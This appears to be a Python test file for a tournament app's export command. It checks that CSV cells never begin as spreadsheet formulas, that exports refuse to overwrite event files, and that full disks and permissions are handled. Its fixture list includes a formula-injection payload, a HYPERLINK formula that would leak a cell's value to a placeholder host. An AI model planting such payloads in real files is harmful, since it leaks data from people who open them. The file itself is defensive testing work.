"""Exports as a hostile player or an unlucky organiser meets them: a name that is a spreadsheet formula, an
export aimed at the event itself, a PDF written onto a full disk, a PDF that cannot be written at all.
Each refusal is one line, exit 2, and changes nothing."""

import csv
import io
import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.tournament.exports import FORMULA_STARTS, csv_cell_text, csv_text, csv_text_cell, export_text
from companion.tournament.players_csv import read_players_csv
from tests.tournament.hostile import fill, folder_state, small_disk
from tests.tournament.store_helpers import ids, new_store, result, round_of

FORMULAS = ['=HYPERLINK("http://x/?leak="&A2;"Click for prize")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
            "'=quoted already"]
FORMATS = ("csv-standings", "csv-results", "json", "pdf-pairings", "pdf-pairings-by-name", "pdf-standings",
           "pdf-slips", "html")


@pytest.fixture
def formula_event(tmp_path):
    """An event whose players, clubs and factions are formulas, round 1 played."""
    path = tmp_path / "cup.companion-event"
    with new_store(str(path), names=()) as store:
        for index, name in enumerate(FORMULAS):
            store.add_player(name, club=f"=CLUB({index})", faction="@faction")
        people = list(ids(store).values())
        store.publish_round(round_of(1, *zip(people[0::2], people[1::2], strict=True)))
        for table in range(1, len(people) // 2 + 1):
            store.report(1, table, result(100, 90 - table))
        event = store.load()
    return path, event


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("fmt", ["csv-standings", "csv-results", "csv-factions"])
def test_no_csv_cell_begins_as_a_formula(formula_event, fmt):
    _, event = formula_event
    text = export_text(event, fmt)
    written = cells(text)
    starts = [cell for cell in written if cell.startswith(FORMULA_STARTS) and not _a_number(cell)]
    assert starts == []
    if fmt == "csv-factions":  # one row per faction: the players' factions are all "@faction"
        assert "'@faction" in written
        return
    for name in FORMULAS[:5]:
        assert f"'{name}" in written  # shown as the text it is
    assert "''=quoted already" in written
    if fmt == "csv-standings":
        assert "'=CLUB(0)" in written and "'@faction" in written
        assert any(_a_number(cell) and cell.startswith("-") for cell in written)  # a VP difference stays a number


def _a_number(cell: str) -> bool:
    try:
        float(cell.replace("/", "").replace(".", "", 1))
    except ValueError:
        return False
    return True


@given(st.text())
def test_every_text_reads_back_and_never_starts_a_formula(text):
    written = csv_text_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_cell_text(written) == text


@pytest.mark.parametrize("text", ["\tTab", "\rReturn", "=", "'", "''", "'x", "'=x", "' =x"])
def test_tabs_returns_and_quotes(text):
    assert csv_cell_text(csv_text_cell(text)) == text
    assert not csv_text_cell(text).startswith(FORMULA_STARTS)


def test_the_players_importer_reads_the_names_back_as_they_were(tmp_path):
    players = tmp_path / "players.csv"
    rows = [["name", "club", "faction"]] + [[csv_text_cell(name), csv_text_cell(f"={index}"), csv_text_cell("@f")]
                                           for index, name in enumerate(FORMULAS)]
    players.write_text(csv_text(rows), encoding="utf-8")
    read = read_players_csv(players)
    assert [(player.name, player.club, player.faction) for player in read] == [
        (name, f"={index}", "@f") for index, name in enumerate(FORMULAS)]


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_over_the_event_itself_is_refused(formula_event, run, fmt, command_line_locale):
    path, _ = formula_event
    before = folder_state(path.parent)
    status, out, err = run("export", path, fmt, path)
    assert (status, out) == (2, "") and err.count("\n") == 1, err
    assert "is an event file" in err and "an export never replaces one" in err
    assert folder_state(path.parent) == before


@pytest.mark.parametrize("fmt", ["csv-standings", "pdf-standings", "html"])
def test_an_export_over_another_event_a_backup_or_a_side_file_is_refused(formula_event, run, fmt, tmp_path,
                                                                         command_line_locale):
    path, _ = formula_event
    other = tmp_path / "other.companion-event"
    new_store(str(other)).close()
    backups = sorted(tmp_path.glob("*.backup"))
    assert backups  # publishing round 1 made one
    side = tmp_path / "other.companion-event-wal"
    side.write_bytes(b"")
    before = folder_state(tmp_path)
    for target, match in ((other, "is an event file"),
                          (backups[0], "is an event file"),
                          (side, "belongs to an event file"),
                          (tmp_path / "new.companion-event", "an export is not written under an event file's name")):
        status, out, err = run("export", path, fmt, target)
        assert (status, out) == (2, "") and err.count("\n") == 1 and match in err, (target, err)
    assert folder_state(tmp_path) == before


def test_an_export_over_a_device_is_refused(formula_event, run):
    path, _ = formula_event
    status, _, err = run("export", path, "csv-standings", os.devnull)
    assert status == 2 and "is not a regular file" in err
    assert os.path.exists(os.devnull) and not os.path.isfile(os.devnull)


@pytest.mark.parametrize("fmt", ["pdf-standings", "csv-standings", "html"])
def test_an_export_onto_a_full_disk_says_so_and_keeps_the_previous_file(formula_event, run, tmp_path, fmt,
                                                                         command_line_locale):
    path, _ = formula_event
    with small_disk(tmp_path / "disk", "256k") as disk:
        target = disk / f"standings.{fmt.split('-')[0]}"
        status, out, err = run("export", path, fmt, target)
        assert status == 0, err
        good = target.read_bytes()
        assert len(good) > 0
        fill(disk)
        before = folder_state(disk)
        status, out, err = run("export", path, fmt, target)
        assert (status, out) == (2, "") and err.count("\n") == 1, err
        assert err == f"companion event export: the disk is full: {target} was not written (a file that was there " \
                      f"before is kept as it was)\n"
        assert folder_state(disk) == before and target.read_bytes() == good


def test_an_unwritable_pdf_is_one_line_without_qts_warnings(formula_event, tmp_path):
    from tests.tournament.hostile import companion

    path, _ = formula_event
    refused = companion("event", "export", path, "pdf-standings", tmp_path / "no-such-folder" / "standings.pdf")
    assert (refused.returncode, refused.stdout) == (2, "")
    assert refused.stderr.count("\n") == 1 and "QPainter" not in refused.stderr, refused.stderr
    assert "cannot write" in refused.stderr and "No such file or directory" in refused.stderr


def test_exports_are_made_for_their_owner_only_and_a_replaced_one_keeps_its_permissions(formula_event, run,
                                                                                          tmp_path):
    path, _ = formula_event
    target = tmp_path / "standings.csv"
    assert run("export", path, "csv-standings", target)[0] == 0
    assert target.stat().st_mode & 0o777 == 0o600
    target.chmod(0o644)  # the organiser shares it
    assert run("export", path, "csv-standings", target)[0] == 0
    assert target.stat().st_mode & 0o777 == 0o644
